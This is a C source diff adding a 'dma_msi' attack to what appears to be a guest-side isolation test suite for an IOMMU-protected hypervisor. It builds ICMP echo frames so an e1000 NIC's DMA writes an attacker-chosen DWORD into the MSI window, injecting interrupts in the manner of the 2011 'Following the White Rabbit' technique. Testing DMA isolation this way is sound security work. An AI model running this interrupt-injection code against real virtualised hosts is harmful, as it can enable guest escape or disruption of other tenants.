@@ -7,6 +7,7 @@
 
 #include "guest/prog/attack.h"
 #include "drivers/e1000/e1000_regs.h"
+#include "guest/kernel/cmdline.h"
 
 #define MAX_ADDRS 8
 
@@ -215,15 +216,146 @@ int attack_dma__hpa(struct kernel *k, int argc, char **argv)
     return bad ? 1 : 0;
 }
 
+/* ---- dma_msi: an interrupt request made by DMA -------------------------- */
+
+/* An interrupt request is a DWORD write to 0xFEExxxxx (VT-d 3.14, 5.1).  The
+ * NIC writes a received frame into its descriptors' buffers in order; with
+ * 256-byte buffers a 260-byte frame leaves exactly its last 4 bytes for the
+ * second buffer: one DWORD write whose data the attacker chooses.  Linux
+ * echoes an ICMP echo request's payload, so the attacker picks those bytes.
+ * (Wojtczuk & Rutkowska, "Following the White Rabbit", 2011.) */
+#define MSI_FRAME 260u
+#define MSI_BSIZE 256u
+
+static uint16_t csum16(const uint8_t *p, unsigned len)
+{
+    uint32_t s = 0;
+    for (unsigned i = 0; i + 1 < len; i += 2)
+        s += (uint32_t)p[i] << 8 | p[i + 1];
+    if (len & 1)
+        s += (uint32_t)p[len - 1] << 8;
+    while (s >> 16)
+        s = (s & 0xFFFF) + (s >> 16);
+    return (uint16_t)~s;
+}
+
+/* Linux's MAC from its ARP reply (own buffers, 2 KiB); 0 or -1. */
+static int learn_peer(struct kernel *k, struct anic *n, uint8_t peer[6])
+{
+    for (unsigned tries = 0; tries < 10; tries++) {
+        unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC;
+        n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = hal__dma_addr(n->buf + slot * 2048)};
+        hal__mb();
+        anic__wr(n, E1000_RDT, (slot + 1) % ANIC_NDESC);
+        anic__arp_frame(n);
+        anic__tx(n, hal__dma_addr(n->frame), 60);
+        for (unsigned i = 0; i < 20 && anic__rd(n, E1000_RDH) % ANIC_NDESC == slot; i++)
+            attack__sleep_ms(k, 10);
+        if (anic__rd(n, E1000_RDH) % ANIC_NDESC == slot)
+            continue;
+        const uint8_t *f = n->buf + slot * 2048;
+        if (f[12] == 0x08 && f[13] == 0x06 && f[21] == 2 && f[28] == 10 && f[31] == 1) {
+            memcpy(peer, f + 22, 6);
+            return 0;
+        }
+    }
+    return -1;
+}
+
+/* An ICMP echo request 10.0.2.15 -> 10.0.2.1 whose reply is MSI_FRAME bytes
+ * ending in the little-endian dword `data`. */
+static void echo_frame(struct anic *n, const uint8_t peer[6], uint32_t data, uint16_t seq)
+{
+    uint8_t *f = n->frame;
+    unsigned ip_len = MSI_FRAME - 14, icmp_len = ip_len - 20;
+    memset(f, 0, MSI_FRAME);
+    memcpy(f, peer, 6);
+    memcpy(f + 6, n->mac, 6);
+    f[12] = 0x08, f[13] = 0x00;
+    uint8_t *ip = f + 14;
+    ip[0] = 0x45, ip[2] = (uint8_t)(ip_len >> 8), ip[3] = (uint8_t)ip_len, ip[8] = 64, ip[9] = 1;
+    ip[12] = 10, ip[13] = 0, ip[14] = 2, ip[15] = 15;
+    ip[16] = 10, ip[17] = 0, ip[18] = 2, ip[19] = 1;
+    uint16_t c = csum16(ip, 20);
+    ip[10] = (uint8_t)(c >> 8), ip[11] = (uint8_t)c;
+    uint8_t *icmp = ip + 20;
+    icmp[0] = 8, icmp[4] = 0x1F, icmp[5] = 0xEE, icmp[6] = (uint8_t)(seq >> 8), icmp[7] = (uint8_t)seq;
+    for (unsigned i = 8; i < icmp_len - 4; i++)
+        icmp[i] = (uint8_t)i;
+    for (unsigned i = 0; i < 4; i++)
+        f[MSI_FRAME - 4 + i] = (uint8_t)(data >> (8 * i));
+    c = csum16(icmp, icmp_len);
+    icmp[2] = (uint8_t)(c >> 8), icmp[3] = (uint8_t)c;
+}
+
+/* One interrupt request by DMA: 0 once the NIC made the DWORD write (it
+ * completed both descriptors), -1 if it never did. */
+static int msi_by_dma(struct kernel *k, struct anic *n, const uint8_t peer[6], uint64_t addr, uint32_t data)
+{
+    for (unsigned tries = 0; tries < 6; tries++) {
+        unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC, second = (slot + 1) % ANIC_NDESC;
+        n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = hal__dma_addr(n->buf + slot * 2048)};
+        n->rx[second] = (struct e1000_rx_desc){.buffer_addr = addr};
+        hal__mb();
+        anic__wr(n, E1000_RDT, (slot + 2) % ANIC_NDESC);
+        ATTACK_TRY("dma_msi", "RX of a %u-byte echo reply into buffers of %u: its last 4 bytes (0x%x) "
+                   "as one DWORD write to 0x%llx", MSI_FRAME, MSI_BSIZE, data, (unsigned long long)addr);
+        echo_frame(n, peer, data, (uint16_t)tries);
+        anic__tx(n, hal__dma_addr(n->frame), MSI_FRAME);
+        unsigned rdh = slot;
+        for (unsigned i = 0; i < 30 && rdh != (slot + 2) % ANIC_NDESC; i++) {
+            attack__sleep_ms(k, 10);
+            rdh = anic__rd(n, E1000_RDH) % ANIC_NDESC;
+        }
+        volatile struct e1000_rx_desc *d = &n->rx[second];
+        if (rdh == (slot + 2) % ANIC_NDESC && d->length == 4 && (d->status & E1000_RXD_STAT_EOP)) {
+            ATTACK_SAW("dma_msi", "the NIC completed the 4-byte write to 0x%llx (whether it raised an "
+                       "interrupt only the host can tell)", (unsigned long long)addr);
+            return 0;
+        }
+        /* another frame took a descriptor, or none came: start again */
+        ATTACK_SAW("dma_msi", "no clean 2-descriptor receive (RDH %u -> %u, length %u): again", slot, rdh,
+                   d->length);
+        anic__wr(n, E1000_RDT, rdh); /* nothing left posted */
+    }
+    return -1;
+}
+
+/* attack dma_msi [VECTOR [HANDLE...]]: illegal requests to the window (a
+ * TX read, a whole-frame RX write), then interrupt requests by DMA: a
+ * compatibility-format one to CPU 0 with data VECTOR (default 0x61), and
+ * one remappable-format request per HANDLE (an IRTE index). */
 int attack_dma__msi(struct kernel *k, int argc, char **argv)
 {
-    (void)argc, (void)argv;
     struct anic n;
+    uint64_t vector = 0x61;
+    if (argc > 1 && cmdline__parse_u64(argv[1], &vector)) {
+        kprintf("usage: attack dma_msi [VECTOR [HANDLE...]]\n");
+        return 2;
+    }
     if (anic__open(k, &n))
         return 2;
-    int bad = rx_to("dma_msi", k, &n, 0xFEE00000ull);
-    bad += rx_to("dma_msi", k, &n, 0xFEE00000ull | (0x40u << 12));
-    bad += tx_from("dma_msi", &n, 0xFEE00000ull);
+    int bad = rx_to("dma_msi", k, &n, 0xFEE40000ull); /* a 60-byte write: not a DWORD */
+    bad += tx_from("dma_msi", &n, 0xFEE00000ull);      /* a read */
+    uint8_t peer[6];
+    if (learn_peer(k, &n, peer)) {
+        kprintf("ATTACK dma_msi: no ARP reply from 10.0.2.1\n");
+        return 2;
+    }
+    uint32_t rctl = anic__rd(&n, E1000_RCTL);
+    anic__wr(&n, E1000_RCTL, (rctl & ~E1000_RCTL_BSIZE_MASK) | E1000_RCTL_BSIZE_256 | E1000_RCTL_SECRC);
+    int failed = 0;
+    failed += msi_by_dma(k, &n, peer, 0xFEE00000ull, (uint32_t)vector) != 0;
+    for (int i = 2; i < argc; i++) {
+        uint64_t h;
+        if (cmdline__parse_u64(argv[i], &h) || h > 0xFFFF)
+            continue;
+        uint64_t addr = 0xFEE00000ull | 1u << 4 | (h & 0x7FFF) << 5 | ((h >> 15) & 1) << 2;
+        failed += msi_by_dma(k, &n, peer, addr, 0) != 0;
+    }
+    anic__wr(&n, E1000_RCTL, rctl);
+    if (failed)
+        kprintf("ATTACK dma_msi: %d interrupt request(s) could not be made\n", failed);
     control("dma_msi", k, &n);
-    return bad ? 1 : 0;
+    return bad ? 1 : failed ? 2 : 0;
 }
